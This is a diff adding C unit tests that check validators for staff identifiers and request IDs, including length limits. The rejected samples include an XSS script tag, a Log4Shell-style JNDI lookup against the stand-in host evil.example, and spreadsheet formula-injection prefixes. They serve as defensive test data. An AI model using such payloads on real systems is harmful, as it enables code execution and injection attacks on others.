@@ -151,3 +151,40 @@ Test(validate, one_of_matches_exact_members_only)
     cr_assert_eq(text_is_one_of("", statuses), 0);
     cr_assert_eq(text_is_one_of(NULL, statuses), 0);
 }
+
+Test(validate, staff_identifiers_keep_to_the_documented_set)
+{
+    static const char *const fine[] = {"kk-sb-0421", "anna.hansen@vejle.dk", "S1234_x", "CVR:12345678-RID:99", "7"};
+    for (size_t i = 0; i < sizeof(fine) / sizeof(fine[0]); i++)
+        cr_assert_eq(text_is_identifier(fine[i]), 1, "%s was refused", fine[i]);
+    char longest[130];
+    memset(longest, 'a', 129);
+    longest[129] = '\0';
+    static const char *const bad[] = {"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "=1+1", "+cw",
+                                      "-cw", "@cw", ".cw", "anna hansen", "cw\n", "cw/1", "\xc3\xa6" "ble", ""};
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+        cr_assert_eq(text_is_identifier(bad[i]), 0, "%s was taken", bad[i]);
+    cr_assert_eq(text_is_identifier(longest), 0, "129 characters were taken");
+    longest[128] = '\0';
+    cr_assert_eq(text_is_identifier(longest), 1, "128 characters were refused");
+    cr_assert_eq(text_is_identifier(NULL), 0);
+}
+
+Test(validate, request_ids_are_8_to_64_safe_characters_with_a_letter)
+{
+    static const char *const fine[] = {"abcdefgh", "Req_2026.12-06", "3f2b9c1e-7a4d-4e8b-9c0f-5d6a7b8c9d0e",
+                                       "1234567a"};
+    for (size_t i = 0; i < sizeof(fine) / sizeof(fine[0]); i++)
+        cr_assert_eq(text_is_request_id(fine[i]), 1, "%s was refused", fine[i]);
+    static const char *const bad[] = {"0101901234", "010190-1234", "010190.1234", "12345678901234567890",
+                                      "abcdefg", "abcd:efgh", "abcd efgh", "abcd\"efgh", ""};
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+        cr_assert_eq(text_is_request_id(bad[i]), 0, "%s was taken", bad[i]);
+    char id[66];
+    memset(id, 'a', 65);
+    id[65] = '\0';
+    cr_assert_eq(text_is_request_id(id), 0, "65 characters were taken");
+    id[64] = '\0';
+    cr_assert_eq(text_is_request_id(id), 1, "64 characters were refused");
+    cr_assert_eq(text_is_request_id(NULL), 0);
+}
